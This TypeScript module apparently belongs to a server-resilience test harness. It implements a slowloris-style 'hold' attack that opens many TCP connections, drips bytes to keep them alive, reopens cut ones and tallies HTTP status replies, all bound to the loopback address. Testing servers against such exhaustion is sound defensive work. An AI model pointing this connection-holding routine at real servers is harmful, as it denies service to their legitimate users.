import { connect } from 'node:net';
import { setTimeout as delay } from 'node:timers/promises';
import { type Attack, count, emptyTally, type Tally, type Target } from './attack.ts';

type Hold = {
  connections: number;
  /** What each connection sends first; the number tells one from another. */
  first?(index: number): string;
  /** What it sends ever after, ten times a second. */
  drip?: string;
  /** Takes in what the server sends. Otherwise it sits in the buffers of the system, then of the server. */
  reads: boolean;
};

/** In milliseconds, before a connection that was cut is opened again: the point is to hold many, not to open many. */
const breath = 500;
/** In milliseconds. */
const dripInterval = 100;
const attacker = '127.0.0.1';

/** Opens connections and keeps them open for as long as the server lets it. */
export function hold(holding: Hold): Attack {
  return async (target, end) => {
    const tally = emptyTally();
    const attackers = Array.from({ length: holding.connections }, async () => {
      while (performance.now() < end) {
        await keepOpen(target, holding, tally, end);
        await delay(Math.min(breath, Math.max(0, end - performance.now())));
      }
    });
    await Promise.all(attackers);
    return tally;
  };
}

function keepOpen(target: Target, { first, drip, reads }: Hold, tally: Tally, end: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ ...target, localAddress: attacker });
    let isDone = false;
    const finish = () => {
      isDone = true;
      count(tally, 'held to the end');
      socket.destroy();
    };
    const timer = setTimeout(finish, end - performance.now());
    const dripping = drip === undefined ? undefined : setInterval(() => socket.write(drip), dripInterval);
    tally.sent += 1;
    if (first) socket.write(first(tally.sent));
    socket.on('error', () => {});
    if (reads)
      socket.on('data', (part: Buffer) => {
        const [, status] = /^HTTP\/1\.1 (\d{3}) /.exec(part.toString('latin1', 0, 16)) ?? [];
        if (status) count(tally, status);
      });
    socket.on('close', () => {
      clearTimeout(timer);
      clearInterval(dripping);
      if (!isDone) count(tally, 'cut');
      resolve();
    });
  });
}
